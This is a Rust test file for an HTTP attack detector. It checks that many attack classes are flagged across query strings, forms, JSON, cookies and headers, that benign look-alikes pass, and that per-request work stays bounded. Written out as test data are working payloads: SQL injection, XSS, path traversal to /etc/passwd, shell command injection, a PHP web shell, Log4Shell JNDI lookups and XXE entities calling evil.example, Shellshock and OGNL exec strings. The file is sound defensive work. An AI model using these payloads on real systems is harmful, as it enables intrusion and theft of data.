//! Detector tests: one or more per attack class (each in several locations and encodings), benign
//! look-alikes, the rules-file loader, and the per-request work bounds.

use std::time::{Duration, Instant};

use vxtap_http::{Header, Request};

use crate::{Detector, Finding, Limits, RulesError};

fn req(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
    let mut hs = vec![Header { name: b"Host".to_vec(), value: b"shop.example.com".to_vec() }];
    hs.extend(
        headers.iter().map(|(n, v)| Header { name: n.as_bytes().to_vec(), value: v.as_bytes().to_vec() }),
    );
    Request {
        method: method.as_bytes().to_vec(),
        target: target.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers: hs,
        body: body.to_vec(),
        body_len: body.len() as u64,
        ..Request::default()
    }
}

pub(crate) fn get(target: &str) -> Request {
    req("GET", target, &[], b"")
}

/// `s` percent-encoded but for unreserved characters.
pub(crate) fn enc(s: impl AsRef<[u8]>) -> String {
    let mut o = String::new();
    for &b in s.as_ref() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            o.push(b as char);
        } else {
            o.push_str(&format!("%{b:02X}"));
        }
    }
    o
}

fn classes(f: &[Finding]) -> Vec<String> {
    let mut c: Vec<String> = f.iter().flat_map(|x| x.attack_class.clone()).collect();
    c.sort();
    c.dedup();
    c
}

/// Asserts `payload` is found as `class` in a query argument (plain, URL- and double-encoded), a
/// form field, a JSON string, a cookie and a custom header.
fn assert_class_everywhere(class: &str, payload: &str) {
    let det = Detector::builtin();
    let json = format!("{{\"user\":{{\"name\":{}}}}}", json_str(payload));
    let cases = vec![
        ("query", get(&format!("/s?q={}", enc(payload))), "args.q"),
        ("query double", get(&format!("/s?q={}", enc(enc(payload)))), "args.q"),
        (
            "form",
            req(
                "POST",
                "/f",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                format!("a=1&v={}", enc(payload)).as_bytes(),
            ),
            "form.v",
        ),
        (
            "json",
            req("POST", "/j", &[("Content-Type", "application/json")], json.as_bytes()),
            "json.user.name",
        ),
        (
            "cookie",
            req("GET", "/", &[("Cookie", &format!("sid=1; pref={}", enc(payload)))], b""),
            "cookies.pref",
        ),
        ("header", req("GET", "/", &[("X-Custom-Data", payload)], b""), "headers.x-custom-data"),
    ];
    for (what, r, loc) in cases {
        let f = det.inspect(&r);
        let hit = f.iter().find(|x| x.attack_class.iter().any(|c| c == class));
        assert!(hit.is_some(), "{class} not found in {what} for {payload:?}: {f:?}");
        assert!(
            f.iter()
                .filter(|x| x.attack_class.iter().any(|c| c == class))
                .any(|x| x.location.iter().any(|l| l == loc)),
            "{class} in {what}: location {loc} missing: {f:?}"
        );
    }
}

fn json_str(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            '\n' => o.push_str("\\n"),
            '\r' => o.push_str("\\r"),
            c if (c as u32) < 0x20 => o.push_str(&format!("\\u{:04x}", c as u32)),
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

fn assert_benign(r: &Request) {
    let f = Detector::builtin().inspect(r);
    assert!(f.is_empty(), "false positive on {:?}: {f:?}", String::from_utf8_lossy(&r.target));
}

#[test]
fn sqli() {
    for p in [
        "1' OR '1'='1",
        "' UNION SELECT username, password FROM users--",
        "1 AND SLEEP(5)",
        "admin'--",
        "1'/**/UnIoN/**/SeLeCt/**/1,2,3--",
        "1; DROP TABLE users",
        "' and extractvalue(1,concat(0x7e,version()))-- -",
        "1 /*!50000UNION*/ /*!50000SELECT*/ 1,2",
    ] {
        assert_class_everywhere("sqli", p);
    }
}

#[test]
fn sqli_number_and_comment_is_found_however_padded() {
    // `42--` ends the query on MSSQL, PostgreSQL, SQLite and Oracle (`WHERE id=42--xxx AND
    // owner=7`); padding it into a token-like value must not hide it. A random token that begins
    // this way (1 in ~26,000 base64url tokens) is flagged too: docs/detection.md, known false positives.
    let det = Detector::builtin();
    for v in ["42--", "42--xxxxxxxxxxxxxxxx", "6--gbqR2xK_f7TzqJ0aLm4Wc9yNpE1sHv", "6-- gbqR2xK_f7TzqJ0aLm4"]
    {
        let f = det.inspect(&req("GET", "/", &[("Cookie", &format!("session={}", enc(v)))], b""));
        assert!(f.iter().any(|x| x.attack_class.iter().any(|c| c == "sqli")), "{v}: {f:?}");
    }
}

#[test]
fn xss() {
    for p in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "' autofocus onfocus=alert(1) x='",
        "<ScRiPt>prompt(1)</sCrIpT>",
    ] {
        assert_class_everywhere("xss", p);
    }
    // %u and full-width encodings
    let f = Detector::builtin().inspect(&get("/s?q=%u003cscript%u003ealert(1)%u003c/script%u003e"));
    assert!(classes(&f).contains(&"xss".to_string()));
    let f = Detector::builtin().inspect(&get(&format!("/s?q={}", enc("＜script＞alert(1)＜/script＞"))));
    assert!(classes(&f).contains(&"xss".to_string()), "{f:?}");
}

#[test]
fn lfi_and_path_normalisation() {
    for p in [
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
    ] {
        assert_class_everywhere("lfi", p);
    }
    let det = Detector::builtin();
    for t in [
        "/download?file=..%c0%af..%c0%afetc%c0%afpasswd",
        "/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/download?file=../../../../etc/passwd%00.png",
        "/static/..;/..;/WEB-INF/web.xml",
        "/download?file=..%5c..%5c..%5cboot.ini",
    ] {
        assert!(classes(&det.inspect(&get(t))).contains(&"lfi".to_string()), "{t}");
    }
    // multipart filename
    let body = b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\n\r\nx\r\n--B--\r\n";
    let f = det.inspect(&req("POST", "/up", &[("Content-Type", "multipart/form-data; boundary=B")], body));
    assert!(
        f.iter()
            .any(|x| x.attack_class.contains(&"lfi".into())
                && x.location.contains(&"multipart.f.filename".into())),
        "{f:?}"
    );
}

/// Sent as a query argument, `value` is reported by rule `id`.
fn assert_argument_reported_by(value: &str, id: u32) {
    let f = Detector::builtin().inspect(&get(&format!("/s?q={}", enc(value))));
    assert!(f.iter().any(|x| x.signature_id == id), "{value:?}: {id} not in {f:?}");
}

#[test]
fn rules_find_their_literals_in_the_view_they_read() {
    // each literal is whole only in the rule's view: comments and whitespace runs (SQL view), hex
    // separators (path view)
    for (value, id) in [
        ("1 order/**/by 10--", 1000108),
        ("1 order\tby 10--", 1000108),
        ("1 order  by 10--", 1000108),
        ("1/**/or/**/1=1", 1000103),
        ("1 or\x0b1=1", 1000103),
        ("x';set/**/@a=1--", 1000107),
        ("load/**/data infile '/etc/passwd'", 1000106),
        ("0x2e0x2e0x2f0x2e0x2e0x2f0x2e0x2e0x2fwindows0x2fwin.ini", 1000300),
        ("/proc0x2fself0x2fenviron", 1000302),
    ] {
        assert_argument_reported_by(value, id);
    }
}

#[test]
fn rules_see_values_their_literals_used_to_miss() {
    // values each rule's pattern matched but none of its prefilter literals held, found by the
    // proof in cover_tests: a whitespace run where a literal had none or one, a name the list lacked
    for (value, id) in [
        ("1 and exp (~(select 1))", 1000106),
        ("x'+user+'", 1000110),
        ("x=parent ['ev'+'al'](1)", 1000204),
        ("a{background:url ('javascript:alert(1)')}", 1000206),
        ("/.svn/entries", 1000302),
        ("<!-- #exec cmd=\"id\" -->", 1000504),
        ("{7*7}", 1000800),
        ("#parse(\"x.vm\")", 1000800),
        ("dl (\"x.so\")", 1001400),
        ("x.exec(\"id\")", 1001401),
        ("globals ()['os']", 1001402),
        ("process.env.secret", 1001402),
    ] {
        assert_argument_reported_by(value, id);
    }
    let f = Detector::builtin().inspect(&req("GET", "/", &[("User-Agent", "OWASP_ZAP/2.14")], b""));
    assert!(f.iter().any(|x| x.signature_id == 1001500), "{f:?}");
}

#[test]
fn long_json_names_are_cut_between_characters() {
    // a JSON location is cut to 160 bytes; three-byte characters put byte 160 inside one (found by
    // the fuzz target)
    let det = Detector::builtin();
    let key = format!("a{}", "€".repeat(60));
    let body = format!("{{\"{key}\":{{\"{key}\":\"1' or '1'='1\"}}}}");
    let f = det.inspect(&req("POST", "/api", &[("Content-Type", "application/json")], body.as_bytes()));
    assert!(classes(&f).contains(&"sqli".to_string()), "{f:?}");
}

#[test]
fn rfi() {
    for p in
        ["http://evil.example/shell.txt?", "https://198.51.100.7/x.php", "\\\\evil.example\\share\\x.php"]
    {
        let f = Detector::builtin().inspect(&get(&format!("/index.php?page={}", enc(p))));
        assert!(classes(&f).contains(&"rfi".to_string()), "{p}: {f:?}");
    }
}

#[test]
fn command_injection() {
    for p in [
        "; id",
        "| whoami",
        "`id`",
        "$(whoami)",
        "&& cat /etc/passwd",
        ";cat${IFS}/etc/passwd",
        "x; sleep 10",
        "a\nid",
    ] {
        assert_class_everywhere("cmdi", p);
    }
}

#[test]
fn ssrf_addresses_and_notations() {
    for p in [
        "http://169.254.169.254/latest/meta-data/",
        "http://0x7f000001/",
        "http://2130706433/",
        "http://0177.0.0.1/",
        "http://[::1]:8080/",
        "gopher://127.0.0.1:6379/_x",
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://10.0.0.5/admin",
    ] {
        let f = Detector::builtin().inspect(&get(&format!("/fetch?url={}", enc(p))));
        assert!(classes(&f).contains(&"ssrf".to_string()), "{p}: {f:?}");
    }
    // an internal X-Forwarded-For is normal
    assert_benign(&req("GET", "/", &[("X-Forwarded-For", "203.0.113.9, 10.0.0.7")], b""));
}

#[test]
fn xxe() {
    let body =
        br#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#;
    let f = Detector::builtin().inspect(&req("POST", "/x", &[("Content-Type", "application/xml")], body));
    assert!(
        f.iter().any(|x| x.attack_class.contains(&"xxe".into()) && x.location.contains(&"xml".into())),
        "{f:?}"
    );
    assert_class_everywhere("xxe", "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]>");
}

#[test]
fn ssti() {
    for p in [
        "{{7*7}}",
        "${7*7}",
        "{{''.__class__.__mro__[1].__subclasses__()}}",
        "<%= 7*7 %>",
        "{% for x in y %}",
    ] {
        assert_class_everywhere("ssti", p);
    }
    assert_benign(&get("/greet?tpl=Hello+%7B%7B+name+%7D%7D"));
}

#[test]
fn nosqli() {
    let det = Detector::builtin();
    let f = det.inspect(&get("/login?user=admin&password[$ne]=x"));
    assert!(f.iter().any(|x| x.attack_class.contains(&"nosqli".into())), "{f:?}");
    let body = br#"{"username":"admin","password":{"$ne":null}}"#;
    let f = det.inspect(&req("POST", "/login", &[("Content-Type", "application/json")], body));
    assert!(
        f.iter().any(
            |x| x.attack_class.contains(&"nosqli".into()) && x.location.iter().any(|l| l.contains("$ne"))
        ),
        "{f:?}"
    );
    assert_class_everywhere("nosqli", "'; return true; var x='");
    // JSON Schema's "$schema" key is not an operator
    assert_benign(&req(
        "POST",
        "/s",
        &[("Content-Type", "application/json")],
        br#"{"$schema":"x","$id":"y"}"#,
    ));
}

#[test]
fn log4shell_with_nested_lookups() {
    for p in [
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:${lower:l}dap://evil.example/x}",
        "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/z}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
    ] {
        assert_class_everywhere("log4shell", p);
        let f = Detector::builtin().inspect(&req("GET", "/", &[("Accept", p)], b""));
        assert!(classes(&f).contains(&"log4shell".to_string()), "std header {p}");
    }
}

#[test]
fn crlf() {
    let det = Detector::builtin();
    for t in [
        "/%0d%0aSet-Cookie:crlf=injection",
        "/r?lang=en%0d%0aLocation:%20http://evil.example",
        "/%E5%98%8A%E5%98%8DSet-Cookie:x=1",
    ] {
        assert!(classes(&det.inspect(&get(t))).contains(&"crlf".to_string()), "{t}");
    }
}

#[test]
fn shellshock() {
    let f = Detector::builtin().inspect(&req(
        "GET",
        "/cgi-bin/x",
        &[("User-Agent", "() { :; }; /bin/bash -c 'id'")],
        b"",
    ));
    assert!(f.iter().any(|x| x.attack_class.contains(&"shellshock".into())
        && x.location.contains(&"headers.user-agent".into())));
}

#[test]
fn deserialization() {
    for p in [
        "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}",
        "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwAC",
        "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://x/a\"}",
        "!!python/object/apply:os.system [\"id\"]",
    ] {
        assert_class_everywhere("deserialization", p);
    }
    let mut body = b"\xac\xed\x00\x05sr\x00\x11java.util.HashSet".to_vec();
    body.extend_from_slice(&[0xba, 0x44, 0x85, 0x95]);
    let f = Detector::builtin().inspect(&req(
        "POST",
        "/rpc",
        &[("Content-Type", "application/x-java-serialized-object")],
        &body,
    ));
    assert!(classes(&f).contains(&"deserialization".to_string()), "{f:?}");
}

/// `n` bytes of a fixed xorshift sequence: stands for compressed or encrypted content.
fn random_bytes(seed: u64, n: usize) -> Vec<u8> {
    let mut x = seed | 1;
    (0..n).map(|_| (crate::xorshift(&mut x) >> 24) as u8).collect()
}

#[test]
fn binary_bodies_are_inspected_as_their_runs_of_text() {
    // inspected whole, random bytes tripped rules written for text (98 false alerts on the
    // benchmark pcap's ~14,000 binary bodies)
    let det = Detector::builtin();
    for seed in 1..=300 {
        let body = random_bytes(seed, 256 + 32 * seed as usize);
        let f = det.inspect(&req("PUT", "/blob", &[("Content-Type", "application/octet-stream")], &body));
        assert!(f.is_empty(), "seed {seed}: {f:?}");
    }
    // code in a binary file is a run of text, in a raw body or in an uploaded file
    let mut shell = random_bytes(7, 700);
    shell.extend_from_slice(b"<?php system($_GET['c']); ?>");
    shell.extend_from_slice(&random_bytes(8, 700));
    let f = det.inspect(&req("PUT", "/up/a.jpg", &[("Content-Type", "image/jpeg")], &shell));
    let found = f.iter().find(|x| x.attack_class.contains(&"code_injection".into())).expect("web shell");
    assert_eq!(found.location, ["body"]);
    let mut upload =
        b"--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\n\r\n".to_vec();
    upload.extend_from_slice(&shell);
    upload.extend_from_slice(b"\r\n--B--\r\n");
    let f = det.inspect(&req("POST", "/up", &[("Content-Type", "multipart/form-data; boundary=B")], &upload));
    let found = f.iter().find(|x| x.attack_class.contains(&"code_injection".into())).expect("web shell");
    assert_eq!(found.location, ["multipart.f"]);
}

#[test]
fn code_injection() {
    for p in [
        "<?php system($_GET['c']); ?>",
        "phpinfo()",
        "${@print(md5(1))}",
        "__import__('os').system('id')",
        "T(java.lang.Runtime).getRuntime().exec('id')",
    ] {
        assert_class_everywhere("code_injection", p);
    }
    let ognl =
        "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}";
    let f = Detector::builtin().inspect(&req("POST", "/upload.action", &[("Content-Type", ognl)], b""));
    assert!(classes(&f).contains(&"code_injection".to_string()), "{f:?}");
}

#[test]
fn scanners() {
    let det = Detector::builtin();
    for ua in [
        "sqlmap/1.8.4#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None)",
        "Fuzz Faster U Fool v2.1.0",
    ] {
        let f = det.inspect(&req("GET", "/", &[("User-Agent", ua)], b""));
        assert!(f.iter().any(|x| x.attack_class.contains(&"scanner".into())), "{ua}");
    }
    let f = det.inspect(&req("GET", "/", &[("Acunetix-Product", "WVS/14.0")], b""));
    assert!(classes(&f).contains(&"scanner".to_string()));
    assert_benign(&req("GET", "/", &[("User-Agent", "curl/8.5.0")], b""));
}

#[test]
fn protocol_anomalies() {
    let det = Detector::builtin();
    let cases: Vec<(&str, Vec<(&str, &str)>)> = vec![
        ("cl-te", vec![("Content-Length", "4"), ("Transfer-Encoding", "chunked")]),
        ("dup-cl", vec![("Content-Length", "4"), ("Content-Length", "4")]),
        ("dup-cl list", vec![("Content-Length", "4, 4")]),
        ("te obfuscated", vec![("Transfer-Encoding", "chunked"), ("Transfer-Encoding", "x")]),
        ("obs-fold", vec![("X-A", "a\r\n b")]),
        ("bad name", vec![("X Y", "1")]),
        ("bad cl", vec![("Content-Length", "+4")]),
    ];
    for (what, hs) in cases {
        let f = det.inspect(&req("POST", "/", &hs, b"0\r\n\r\n"));
        assert!(classes(&f).contains(&"protocol".to_string()), "{what}: {f:?}");
    }
    assert_benign(&req("POST", "/", &[("Transfer-Encoding", "chunked")], b"abc"));
    assert_benign(&req("POST", "/", &[("Content-Length", "3")], b"abc"));
}

#[test]
fn benign_lookalikes() {
    for t in [
        "/search?q=O%27Brien+%26+Sons",
        "/search?q=Tom+%26+Jerry",
        "/search?q=select+the+best+union+jobs+from+our+list",
        "/search?q=%22exact+phrase%22+search",
        "/search?q=rock+%27n%27+roll",
        "/search?q=c%2B%2B+tutorial",
        "/search?q=50%25+off",
        "/search?q=don%27t+stop+believin%27",
        "/search?q=cats+%26+dogs",
        "/search?q=how+to+drop+a+course",
        "/login?next=%2Faccount%2Fsettings",
        "/api/v1/items?sort=-created_at&filter[status]=active&page[size]=20",
        "/search?q=it%27s+5+o%27clock%3B+more+please",
    ] {
        assert_benign(&get(t));
    }
    let jwt = "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c";
    assert_benign(&req(
        "GET",
        "/api/me",
        &[("Authorization", jwt), ("Cookie", "_ga=GA1.2.1.2; sid=YWJjZGVm+/==")],
        b"",
    ));
    let body = r#"{"name":"Seán O'Brien","bio":"I <3 SQL; union reps select a chair & drop by","avatar":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}"#;
    assert_benign(&req("POST", "/api/profile", &[("Content-Type", "application/json")], body.as_bytes()));
    let form = "comment=%3Cp%3EGreat+product%2C+%3Cb%3Ewould%3C%2Fb%3E+buy+again%21+See+%3Ca+href%3D%22https%3A%2F%2Fexample.com%2Fr%22%3Emy+review%3C%2Fa%3E%3C%2Fp%3E";
    assert_benign(&req(
        "POST",
        "/reviews",
        &[("Content-Type", "application/x-www-form-urlencoded")],
        form.as_bytes(),
    ));
    let upload = b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"My R\xc3\xa9sum\xc3\xa9 (2).pdf\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7\n\xe2\xe3\xcf\xd3 binary\r\n--B--\r\n";
    assert_benign(&req("POST", "/up", &[("Content-Type", "multipart/form-data; boundary=B")], upload));
}

#[test]
fn finding_fields() {
    let f = Detector::builtin()
        .inspect(&get("/s?q=1%27+UNION+SELECT+password+FROM+users--&x=%3Cscript%3Ealert(1)%3C/script%3E"));
    let sql = f.iter().find(|x| x.signature_id == 1000101).expect("union rule");
    assert_eq!(sql.rev, 1);
    assert_eq!(sql.severity, 1);
    assert_eq!(sql.category, "Web Application Attack");
    assert_eq!(sql.location, vec!["args.q".to_string()]);
    assert!(sql.fragment.contains("union select"), "{}", sql.fragment);
    let mut ids: Vec<u32> = f.iter().map(|x| x.signature_id).collect();
    let sorted = ids.clone();
    ids.dedup();
    assert_eq!(ids, sorted, "one finding per rule, ordered by id");
}

#[test]
fn rules_file_errors_name_the_rule_and_line() {
    let bad_regex = "[[rule]]\nid = 7\nname = \"x\"\nclass = [\"sqli\"]\nseverity = 1\ntargets = [\"args\"]\nprefilter = [\"a\"]\npattern = \"(\"\n";
    match Detector::from_rules_str(bad_regex, "t.toml") {
        Err(RulesError::Rule { line, id, .. }) => assert_eq!((line, id), (2, 7)),
        other => panic!("{other:?}"),
    }
    let err = Detector::from_rules_str("[[rule]]\nid = 1\nname = 2\n", "t.toml").unwrap_err();
    assert!(matches!(err, RulesError::Syntax { .. }) && err.to_string().contains("line"), "{err}");
    let dup = "[[rule]]\nid = 1\nname = \"a\"\nclass = [\"xss\"]\nseverity = 1\nengine = \"protocol\"\ncheck = \"cl-te\"\n".repeat(2);
    assert!(Detector::from_rules_str(&dup, "t").unwrap_err().to_string().contains("duplicate"));
    let binary_regex = bad_regex.replace("[\"args\"]", "[\"binary\"]").replace("\"(\"", "\"x\"");
    let err = Detector::from_rules_str(&binary_regex, "t").unwrap_err().to_string();
    assert!(err.contains("can target `binary`"), "{err}");
    // a check of normalised text sees nothing in binary content, so it may not target it either
    let text_check = "[[rule]]\nid = 8\nname = \"x\"\nclass = [\"sqli\"]\nseverity = 1\nengine = \"special\"\ncheck = \"libinjection-sqli\"\ntargets = [\"binary\"]\n";
    let err = Detector::from_rules_str(text_check, "t").unwrap_err().to_string();
    assert!(err.contains("can target `binary`"), "{err}");
    let unknown = "[[rule]]\nid = 1\nname = \"a\"\nclass = [\"nope\"]\nseverity = 1\nengine = \"protocol\"\ncheck = \"cl-te\"\n";
    assert!(Detector::from_rules_str(unknown, "t").unwrap_err().to_string().contains("unknown class"));
    assert!(matches!(Detector::from_rules_file("/nonexistent/rules.toml"), Err(RulesError::Io { .. })));
    // the shipped file loads from disk too, every pattern compiled at load: the built-in set, which
    // compiles its patterns on first use, can rely on them
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../../configs/rules.toml");
    let d = Detector::from_rules_file(path).expect("configs/rules.toml");
    assert_eq!(d.rule_count(), Detector::builtin().rule_count());
}

#[test]
fn builtin_patterns_compile_when_first_needed() {
    use crate::rules::{Compile, Engine};
    let rules = crate::rules::compile(crate::BUILTIN_RULES, "built in", Compile::OnFirstUse).expect("rules");
    let det = Detector::of(std::sync::Arc::new(crate::Inner::new(rules)));
    // (rules whose requirements are compiled, rules whose regex is built)
    let compiled = || {
        det.inner.rules.iter().fold((0, 0), |(reached, built), r| match &r.engine {
            Engine::Regex(p) => {
                let (parsed, regex) = p.compiled();
                (reached + usize::from(parsed), built + usize::from(regex))
            }
            _ => (reached, built),
        })
    };
    assert_eq!(compiled(), (0, 0));
    let f = det.inspect(&get("/search?q=1'+union+select+password+from+users--"));
    assert!(f.iter().any(|x| x.category == "Web Application Attack"), "{f:?}");
    let (reached, built) = compiled();
    assert!(reached > 0 && reached < det.rule_count() / 2, "{reached} of {} reached", det.rule_count());
    // a value reaching a rule without the bytes its matches need does not build the regex (10 and 7
    // when this was written)
    assert!(built > 0 && built < reached, "{built} of {reached} reached built");
}

#[test]
fn custom_rule_set() {
    let rules = r#"
[[rule]]
id = 9000001
name = "Test: forbidden word"
class = ["code_injection"]
severity = 3
targets = ["args"]
prefilter = ["forbidden"]
pattern = '''forbidden\s+word'''
"#;
    let det = Detector::from_rules_str(rules, "inline").expect("rules");
    let f = det.inspect(&get("/?a=the+FORBIDDEN%20word"));
    assert_eq!(f.len(), 1);
    assert_eq!((f[0].signature_id, f[0].fragment.as_str()), (9000001, "forbidden word"));
    assert!(det.inspect(&get("/?a=allowed")).is_empty());
}

/// The slowest of `runs` timings of `f` is not what we bound (the machine is shared); the fastest is.
fn best_time(runs: usize, f: impl Fn()) -> Duration {
    (0..runs)
        .map(|_| {
            let t = Instant::now();
            f();
            t.elapsed()
        })
        .min()
        .unwrap_or_default()
}

#[test]
fn hostile_requests_are_bounded() {
    let det = Detector::builtin();
    let anchors =
        "union select sleep( ../ <script ${jndi: () { :; }; /etc/passwd 169.254.169.254 on".repeat(2000);
    let many =
        format!("/p?{}", (0..20_000).map(|i| format!("a{i}=%3Cscript%3E{i}")).collect::<Vec<_>>().join("&"));
    let deep = format!("{}\"x\"{}", "[".repeat(200_000), "]".repeat(200_000));
    let wide = format!(
        "{{{}}}",
        (0..50_000).map(|i| format!("\"k{i}\":\"<svg onload=alert({i})>\"")).collect::<Vec<_>>().join(",")
    );
    let cases = vec![
        ("long value", get(&format!("/s?q={}", "%27%20or%20".repeat(100_000)))),
        ("many params", get(&many)),
        ("deep json", req("POST", "/a", &[("Content-Type", "application/json")], deep.as_bytes())),
        ("wide json", req("POST", "/a", &[("Content-Type", "application/json")], wide.as_bytes())),
        (
            "anchors",
            req(
                "POST",
                "/a",
                &[("Content-Type", "text/plain"), ("User-Agent", &anchors[..100_000])],
                anchors.as_bytes(),
            ),
        ),
        ("percents", get(&format!("/x?a={}", "%25".repeat(300_000)))),
    ];
    // Debug builds are ~10x slower than release; the release bound (1 ms) is measured by the bench.
    let bound = if cfg!(debug_assertions) { Duration::from_millis(40) } else { Duration::from_millis(1) };
    for (what, r) in cases {
        let t = best_time(3, || {
            std::hint::black_box(det.inspect(&r));
        });
        assert!(t < bound, "{what}: {t:?}");
    }
}

#[test]
fn limits_are_respected() {
    let det = Detector::builtin().with_limits(Limits { max_values: 3, ..Limits::default() });
    // the attack is the 10th value: past the limit, not inspected
    let cut = det.examine(&get("/p?a=1&b=2&c=3&d=4&e=5&q=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(cut.findings.is_empty(), "{cut:?}");
    assert_eq!(det.limits().max_values, 3);
    // and says so; three values that fill the bound exactly are all read
    assert!(cut.partial);
    assert!(!det.examine(&get("/p?a")).partial, "path, argument name, Host");
}

#[test]
fn a_request_inspected_in_part_says_so() {
    let det = Detector::builtin();
    let partial = |r: &Request| det.examine(r).partial;
    assert!(!partial(&get("/search?q=shoes&page=2")));
    // bodies and values past their own bounds are inspection depth, not a cut
    let long = "a=".to_string() + &"x".repeat(200_000);
    let form = ("Content-Type", "application/x-www-form-urlencoded");
    assert!(!partial(&req("POST", "/f", &[form], long.as_bytes())));
    // too many values, too many bytes in all, the scan budget spent
    let many = (0..300).map(|i| format!("a{i}=1")).collect::<Vec<_>>().join("&");
    assert!(partial(&get(&format!("/p?{many}"))));
    let bulky = (0..40).map(|i| format!("v{i}={}", "y".repeat(3_000))).collect::<Vec<_>>().join("&");
    assert!(partial(&req("POST", "/f", &[form], bulky.as_bytes())));
    let tight = Detector::builtin().with_limits(Limits { max_scan_bytes: 100, ..Limits::default() });
    assert!(tight.examine(&get("/s?q=1%27%20union%20select%20password%20from%20users--")).partial);
}

#[test]
fn a_request_read_to_its_last_value_is_not_cut() {
    // Each request ends in what holds no value (an empty pair, closing brackets or tags, the closing
    // delimiter): a collector that fills up on its last value has read it all; one value less is a cut.
    let json = ("Content-Type", "application/json");
    let xml = ("Content-Type", "application/xml");
    let multipart = ("Content-Type", "multipart/form-data; boundary=B");
    let requests = [
        Request { headers: Vec::new(), ..get("/p?a=1&b=2&&") },
        req("POST", "/j", &[json], br#"{"a": ["x", {"b": "y"}] }  "#),
        req("POST", "/x", &[xml], b"<?xml version=\"1.0\"?><r><a k=\"v\">x</a><!-- end --></r>\n"),
        req(
            "POST",
            "/m",
            &[multipart],
            b"--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\nhello\r\n--B--\r\n",
        ),
    ];
    for r in &requests {
        let values = crate::extract::collect(r, &Limits::default()).0.len();
        let with = |max_values| Detector::builtin().with_limits(Limits { max_values, ..Limits::default() });
        let target = String::from_utf8_lossy(&r.target);
        assert!(!with(values).examine(r).partial, "{target}: {values} values");
        assert!(with(values - 1).examine(r).partial, "{target}: {} values", values - 1);
    }
}

#[test]
fn remembered_values_are_charged_and_matched_as_fresh_ones() {
    // Repeated benign headers and arguments before an attack, under scan budgets small enough that
    // the charge of the remembered values decides whether the attack is still scanned.
    let ua = ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0");
    let requests = [
        req("GET", "/a?page=2&sort=price;desc", &[ua, ("X-Note", "a -- b; c")], b""),
        req(
            "GET",
            "/a?page=2&sort=price;desc&q=1%27%20or%20%271%27=%271",
            &[ua, ("X-Note", "a -- b; c")],
            b"",
        ),
        req("GET", "/a?q=1%27%20or%20%271%27=%271&page=2", &[ua], b""),
    ];
    for budget in [0, 300, 600, 1200, 2400, 384 << 10] {
        let limits = Limits { max_scan_bytes: budget, ..Limits::default() };
        let remembering = Detector::builtin().with_limits(limits);
        for _ in 0..3 {
            for r in &requests {
                let fresh = Detector::builtin().with_limits(limits).inspect(r);
                assert_eq!(remembering.inspect(r), fresh, "budget {budget}");
            }
        }
    }
}

#[test]
fn work_spread_over_threads_comes_back_in_order() {
    let items: Vec<u32> = (0..103).collect();
    for threads in [0, 1, 2, 3, 8, 200] {
        let got = crate::rules::spread(&items, threads, |i| (i * 7, std::thread::current().id()));
        assert_eq!(
            got.iter().map(|(v, _)| *v).collect::<Vec<_>>(),
            items.iter().map(|i| i * 7).collect::<Vec<_>>()
        );
        let used: std::collections::HashSet<_> = got.iter().map(|(_, t)| *t).collect();
        assert_eq!(used.len(), threads.clamp(1, items.len()), "threads {threads}");
    }
}
